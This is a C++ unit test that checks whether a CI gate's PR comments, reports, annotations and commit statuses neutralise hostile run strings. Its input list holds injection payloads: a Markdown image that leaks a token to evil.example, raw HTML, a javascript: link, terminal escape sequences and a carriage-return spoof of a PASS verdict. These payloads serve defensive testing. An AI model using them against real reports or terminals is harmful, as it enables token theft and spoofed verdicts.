// The gate's PR comment, step summary, annotations and commit status with hostile strings from a run (kernel
// names, reasons, the environment id, errors quoted in a note): nothing becomes Markdown, HTML or a terminal control.
#include "gate_report.hpp"

#include "rnx/common/text.hpp"

#include "../support/markdown_probe.hpp"

#include <doctest/doctest.h>

#include <string>
#include <vector>

using namespace rnx;
using namespace rnx::gate;
using rnx::test_support::outside_code_spans;

namespace {

const std::vector<std::string> hostile = {
    "![leak](https://evil.example/x.png?token=SECRET)",
    "<h1>rnx verify: accepted</h1>",
    "rejected\rrnx: PASS",
    "\x1b[2J\x1b[Hcleared",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "[ok](javascript:alert(1))",
    "x\n### rnx: **PASS**\n```\n",
};

bool clean_for_terminal(const std::string& text) {
  for (unsigned char c : text) {
    if ((c < 0x20 && c != '\n') || c == 0x7f) return false;
  }
  return true;
}

}  // namespace

TEST_CASE("gate report and comment: strings from the run are data, never markup") {
  for (const auto& h : hostile) {
    CAPTURE(h);
    verdict_document v;
    v.verdict = overall::block;
    v.reason = h;
    v.env_id = h;
    config_verdict c;
    c.key = {h, "eager", "float32", 1};
    c.result = decision::slower;
    c.reason = h;
    v.configs.push_back(c);
    report_facts facts;
    facts.mode = h;
    facts.commit = h;
    facts.run_id = h;
    facts.runner_label = h;
    facts.note = h;
    facts.backend = h;
    facts.run_url = "https://evil.example/x) ![leak](https://evil.example/y";
    facts.history = {{h, {1.0, 2.0}}};
    const std::string comment = render_comment(v, facts, comment_marker(h));
    // The comment's first line is its marker, an HTML comment that nothing inside can close (comment_marker).
    REQUIRE(comment.rfind("<!-- rnx-gate key=", 0) == 0);
    CHECK(comment.find("-->") == comment.find('\n') - 3);
    for (const auto& full : {render_report(v, facts), comment.substr(comment.find('\n') + 1)}) {
      CHECK(clean_for_terminal(full));
      // The history block has exactly its own two fences: no other line starts with backticks.
      std::size_t fences = 0;
      for (std::size_t at = 0; at < full.size(); at = full.find('\n', at) + 1) {
        if (full.compare(at, 1, "`") == 0) ++fences;
        if (full.find('\n', at) == std::string::npos) break;
      }
      CHECK(fences == 2);
      const std::string out = outside_code_spans(full);
      CHECK(out.find("![leak]") == std::string::npos);
      CHECK(out.find("<h1>") == std::string::npos);
      CHECK(out.find("](javascript:") == std::string::npos);
      CHECK(out.find("\n### rnx: **PASS**") == std::string::npos);
      CHECK(out.find("Evidence for this run") == std::string::npos);  // not a plain URL: no link
    }
    v.configs.clear();  // the branch without a table
    auto bare = outside_code_spans(render_report(v, facts));
    CHECK(bare.find("<h1>") == std::string::npos);
    CHECK(bare.find("![leak]") == std::string::npos);
    for (const auto& line : annotations(verdict_document{overall::block, h})) CHECK(clean_for_terminal(line));
    CHECK(clean_for_terminal(commit_status(verdict_document{overall::block, h}).second));
  }
}
